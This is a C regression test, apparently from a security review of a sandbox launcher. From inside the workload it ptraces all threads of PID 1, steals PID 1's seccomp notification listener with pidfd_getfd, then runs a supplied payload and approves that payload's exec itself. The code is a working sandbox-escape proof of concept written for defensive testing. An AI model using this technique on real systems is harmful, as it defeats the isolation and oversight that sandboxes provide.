// Regression test from the security review of the launcher (see docs/architecture.md).
// From inside the workload: can we ptrace PID 1 and take over its seccomp listener?
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
extern char **environ;
int main(int argc, char **argv)
{
    const char *payload = argv[1];
    int tids[64], n = 0;
    DIR *d = opendir("/proc/1/task");
    struct dirent *e;
    while ((e = readdir(d)) && n < 64) if (e->d_name[0] != '.') tids[n++] = atoi(e->d_name);
    closedir(d);
    for (int i = 0; i < n; i++) {
        if (ptrace(PTRACE_SEIZE, tids[i], 0, 0) != 0) { printf("PTRACE_SEIZE PID 1 thread %d: %s\n", tids[i], strerror(errno)); return 1; }
        ptrace(PTRACE_INTERRUPT, tids[i], 0, 0);
    }
    for (int i = 0; i < n; i++) { int st; waitpid(tids[i], &st, __WALL); }
    printf("seized and stopped all %d threads of PID 1\n", n);
    int pidfd = syscall(SYS_pidfd_open, 1, 0), lfd = -1;
    for (int fd = 3; fd < 1024 && lfd < 0; fd++) {
        int x = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (x < 0) continue;
        char p[64], l[128] = {0};
        snprintf(p, sizeof p, "/proc/self/fd/%d", x);
        readlink(p, l, sizeof l - 1);
        if (strstr(l, "seccomp")) { lfd = x; printf("stole PID 1's fd %d: %s\n", fd, l); } else close(x);
    }
    if (lfd < 0) { printf("no listener found\n"); return 1; }
    pid_t c = fork();
    if (c == 0) { char *av[] = { "evil", NULL }; execve(payload, av, environ); perror("execve payload"); _exit(9); }
    struct seccomp_notif req; struct seccomp_notif_resp resp;
    memset(&req, 0, sizeof req);
    if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &req) == 0) {
        memset(&resp, 0, sizeof resp);
        resp.id = req.id; resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
        printf("answered CONTINUE for pid %d's exec ourselves\n", req.pid);
    }
    int st; waitpid(c, &st, 0);
    printf("payload exit status %d\n", WIFEXITED(st) ? WEXITSTATUS(st) : -WTERMSIG(st));
    for (int i = 0; i < n; i++) ptrace(PTRACE_DETACH, tids[i], 0, 0);
    return 0;
}
